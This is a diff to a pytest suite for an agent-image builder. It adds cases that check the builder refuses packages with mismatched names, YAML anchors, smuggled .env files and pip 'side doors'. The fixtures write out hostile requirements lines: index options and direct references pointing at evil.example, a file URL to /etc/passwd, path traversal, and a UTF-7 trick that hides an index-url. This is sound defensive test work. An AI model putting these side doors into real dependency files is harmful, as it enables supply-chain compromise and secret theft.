@@ -218,6 +218,7 @@ class Case:
     needle: str                      # must appear in the message: the entry or the field
     field: str | None = None         # err.field, when the case pins it
     limits: dict[str, int] = dc_field(default_factory=dict)
+    options: dict = dc_field(default_factory=dict)  # more BuildOptions (the CLI gets the same as --flags)
 
 
 def y(text: str) -> Callable[[Path], Path]:
@@ -398,6 +399,82 @@ CASES += [
          POLICY, "more/reqs.txt:2: '--index-url'", "more/reqs.txt"),
 ]
 
+# --- issue 11: a package cannot reach past its own agent ---------------------------------
+
+def folder_link(link: str, target: str, files: dict[str, str] | None = None) -> Callable[[Path], Path]:
+    def make(tmp: Path) -> Path:
+        root = folder(tmp, files=files)
+        os.symlink(target, root / link)
+        return root
+    return make
+
+
+YAML_LINES = len(GOOD_YAML.splitlines())
+GITHUB = frozenset({"github.com"})
+CASES += [
+    # the caller names the agent; the package may not pick another's repository or tag
+    Case("identity-name", m(name="agent-b"), PVE, "name is 'agent-b', but this build is for 'bad-case'", "name",
+         options={"expect_name": "bad-case"}),
+    Case("identity-version", m(), PVE, "metadata.version is '0.1.0', but this build is for '0.2.0'",
+         "metadata.version", options={"expect_name": "bad-case", "expect_version": "0.2.0"}),
+    # YAML anchors and aliases: none at all, the line named
+    Case("yaml-anchor", y(GOOD_YAML + "extra: &x 1\n"), PVE, f"line {YAML_LINES + 1} uses the YAML anchor '&x'",
+         "agent.yaml"),
+    Case("yaml-merge-key", y(GOOD_YAML + "base: &b {a: 1}\nother:\n  <<: *b\n"), PVE, "anchor '&b'", "agent.yaml"),
+    # .env files anywhere stay out, so no include or link may carry one in
+    Case("dotenv-nested-include", req("-r config/.env.local\n", {"config/.env.local": "requests\n"}), PVE,
+         "config/.env.local", "requirements.txt"),
+    Case("dotenv-requirements-link", folder_link("requirements.txt", ".env", {".env": "API_KEY=sk-live-x\n"}),
+         PVE, "include .env", "requirements.txt"),
+]
+# (case id, requirements.txt, extra files, needle, field, options): every side door pip has
+SIDE_DOORS = [
+    ("abbrev-extra-index", "--extra-index https://evil.example/s", None,
+     "requirements.txt:2: '--extra-index-url' (written '--extra-index')", "requirements.txt", {}),
+    ("abbrev-index", "--index https://evil.example/s", None, "'--index-url' (written '--index')", None, {}),
+    ("abbrev-find", "--find https://evil.example/w/", None, "'--find-links' (written '--find')", None, {}),
+    ("abbrev-trusted", "--trusted evil.example", None, "'--trusted-host' (written '--trusted')", None, {}),
+    ("abbrev-harmless", "--only-b :all:", None, "'--only-b' is an abbreviated option", None, {}),
+    ("pypi-url-alias", "--pypi-url https://evil.example/s", None, "'--index-url' (written '--pypi-url')", None, {}),
+    ("continuation-splits-option", "--extra-index\\\n-url https://evil.example/s", None,
+     "requirements.txt:2: '--extra-index-url'", None, {}),
+    ("in-constraints-file", "-c pins.txt", {"pins.txt": "idna<4\n--extra-index-url https://evil.example/s\n"},
+     "pins.txt:2: '--extra-index-url'", "pins.txt", {}),
+    ("constraints-include-nested", "-c pins.txt", {"pins.txt": "-r more.txt\n", "more.txt": "evilpkg\n"},
+     "pins.txt:1: a constraints file includes", "pins.txt", {}),
+    ("nested-include-chain", "-r a/reqs.txt", {"a/reqs.txt": "-c ../b.txt\n", "b.txt": "-i https://evil.example/s\n"},
+     "b.txt:1: '--index-url'", "b.txt", {}),
+    ("config-settings", "requests==2.32.3 --config-settings=cmake.args=-DFETCH=1", None, "'--config-settings'", None,
+     {}),
+    ("config-settings-short", "requests==2.32.3 -C key=value", None, "'--config-settings'", None, {}),
+    ("global-option", "requests==2.32.3 --global-option=build_ext", None, "'--global-option'", None, {}),
+    ("direct-reference", "evilpkg @ https://evil.example/evilpkg-1.0-py3-none-any.whl", None,
+     "is a direct reference: pip would fetch it from evil.example", None, {}),
+    ("direct-reference-no-space", "evilpkg@https://evil.example/e.whl", None, "direct reference", None, {}),
+    ("bare-url", "https://evil.example/evilpkg-1.0.tar.gz", None, "direct reference", None, {}),
+    ("url-with-userinfo", "evilpkg @ https://github.com@evil.example/e.whl", None, "credentials, a backslash",
+     None, {"allow_index_hosts": GITHUB}),
+    ("vcs", "git+https://github.com/evil/evilpkg.git#egg=evilpkg", None, "VCS reference", None, {}),
+    ("vcs-even-allowed", "evilpkg @ git+https://github.com/evil/evilpkg.git", None, "VCS reference", None,
+     {"allow_index_hosts": GITHUB}),
+    ("vcs-editable", "-e git+https://github.com/evil/evilpkg.git#egg=evilpkg", None, "VCS reference", None,
+     {"allow_index_hosts": GITHUB}),
+    ("file-url-outside", "evilpkg @ file:///etc/passwd", None, "'/etc/passwd' is outside the package", None, {}),
+    ("file-url-encoded-dotdot", "file:///app/%2e%2e/etc/x.whl", None, "is outside the package", None, {}),
+    ("path-outside", "../sibling/evilpkg.whl", None, "'../sibling/evilpkg.whl' is outside the package", None, {}),
+    ("absolute-path", "/opt/agent-image/evil.whl", None, "is outside the package", None, {}),
+    ("url-include", "-r https://evil.example/more.txt", None, "includes a URL", None, {}),
+    ("env-var", "--extra-index-url ${AGENT_IMAGE_INDEX}", None, "'${AGENT_IMAGE_INDEX}' is filled from", None, {}),
+]
+CASES += [Case(f"policy-{cid}", req(f"requests==2.32.3\n{text}\n", extra), POLICY, needle, field, options=opts)
+          for cid, text, extra, needle, field, opts in SIDE_DOORS]
+CASES += [
+    Case("policy-utf16", lambda tmp: folder(tmp, files={"requirements.txt": "requests\n-i https://evil.example/s\n"
+                                                         .encode("utf-16")}), POLICY, "UTF-16", "requirements.txt"),
+    Case("policy-utf7-coding", req("# -*- coding: utf-7 -*-\nrequests\n+AC0ALQ-index-url https://evil.example/s\n"),
+         POLICY, "requirements.txt:1: declares the encoding 'utf-7'", "requirements.txt"),
+]
+
 assert len({c.id for c in CASES}) == len(CASES), "case ids are unique"
 
 
@@ -480,7 +557,7 @@ def ro_engine(docker_client):
     proxy.close()
 
 
-OUR_NAMES = {"bad-case"}  # the only valid agent name in the corpus: what a slipped-through build would tag
+OUR_NAMES = {"bad-case", "agent-b"}  # the only valid agent name in the corpus: what a slipped-through build would tag
 
 
 def engine_state(client) -> tuple[set[str], set[str]]:
@@ -508,7 +585,12 @@ def assert_engine_untouched(client, before, after, proxy: ReadOnlyEngine) -> Non
 
 
 def cli_args(case: Case) -> list[str]:
-    return [a for k, v in case.limits.items() for a in (f"--{k.replace('_', '-')}", str(v))]
+    flags = {"allow_index_hosts": "--allow-index-host"}
+    out = [a for k, v in case.limits.items() for a in (f"--{k.replace('_', '-')}", str(v))]
+    for key, value in case.options.items():
+        flag = flags.get(key, f"--{key.replace('_', '-')}")
+        out += [a for v in (sorted(value) if isinstance(value, frozenset) else [value]) for a in (flag, str(v))]
+    return out
 
 
 def clean_env() -> dict[str, str]:
@@ -534,7 +616,8 @@ def test_bad_package_is_refused(case: Case, tmp_path, docker_client, ro_engine):
     src = case.make(tmp_path)
     ro_engine.calls.clear()
     before = engine_state(docker_client)
-    options = BuildOptions(limits=Limits(**case.limits), cache_dir=tmp_path / "cache", use_cache=False, env={})
+    options = BuildOptions(limits=Limits(**case.limits), cache_dir=tmp_path / "cache", use_cache=False, env={},
+                           **case.options)
     with pytest.raises(PackageValidationError) as caught:
         build_image(src, options, engine=Engine(ro_engine.url))
     err = caught.value
